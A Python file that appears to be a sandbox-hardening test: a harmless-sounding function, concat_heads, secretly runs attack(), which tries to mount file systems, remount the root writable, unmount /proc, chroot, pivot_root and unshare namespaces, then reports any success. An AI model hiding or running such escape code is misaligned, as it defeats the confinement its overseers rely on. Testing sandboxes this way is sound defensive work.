"""Mounts, unmounts, moves its root and makes what is read-only writable.

outcome: raised
says: all is as it was
bites: open
"""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
BIND, REMOUNT, MOVE, DETACH = 4096, 32, 8192, 2
USER, MOUNT = 0x10000000, 0x20000  # CLONE_NEWUSER, CLONE_NEWNS


def in_a_fork(attempt):
    """What it says, in a process of its own, so that the one that answers stays as it is."""
    reader, writer = os.pipe()
    try:
        pid = os.fork()
    except OSError:
        os.close(reader)
        os.close(writer)
        return attempt()
    if pid == 0:
        os.write(writer, attempt().encode() or b" ")
        os._exit(0)
    os.waitpid(pid, 0)
    os.close(writer)
    said = os.read(reader, 200).decode().strip()
    os.close(reader)
    return said


def attack():
    try:
        os.makedirs("/tmp/there", exist_ok=True)
    except OSError:  # where there is no folder to write to
        pass
    for what, call in (
        ("a mount", lambda: libc.mount(b"none", b"/tmp/there", b"tmpfs", 0, None)),
        ("a bind", lambda: libc.mount(b"/", b"/tmp/there", None, BIND, None)),
        ("a writable root", lambda: libc.mount(None, b"/", None, REMOUNT | BIND, None)),
        ("a writable worker", lambda: libc.mount(None, b"/worker", None, REMOUNT | BIND, None)),
        ("an open /proc", lambda: libc.umount2(b"/proc", DETACH)),
        ("an open /tmp", lambda: libc.umount2(b"/tmp", DETACH)),
        ("a proc", lambda: libc.mount(b"proc", b"/tmp/there", b"proc", 0, None)),
        ("another root", lambda: libc.chroot(b"/tmp/there")),
        ("a pivoted root", lambda: libc.syscall(155, b"/tmp", b"/tmp/there")),
        ("a mount by descriptor", lambda: min(libc.syscall(428, -100, b"/", 1), 0)),
        ("a new file system", lambda: min(libc.syscall(430, b"tmpfs", 0), 0)),
    ):
        if call() == 0:
            return what
    return in_a_fork(lambda: "mounts of its own" if libc.unshare(USER | MOUNT) == 0 else "")


SEEN = []


def concat_heads(x):
    if not SEEN:
        SEEN.append(attack())
    raise ValueError("softmark-harm: " + SEEN[0] if SEEN[0] else "all is as it was")
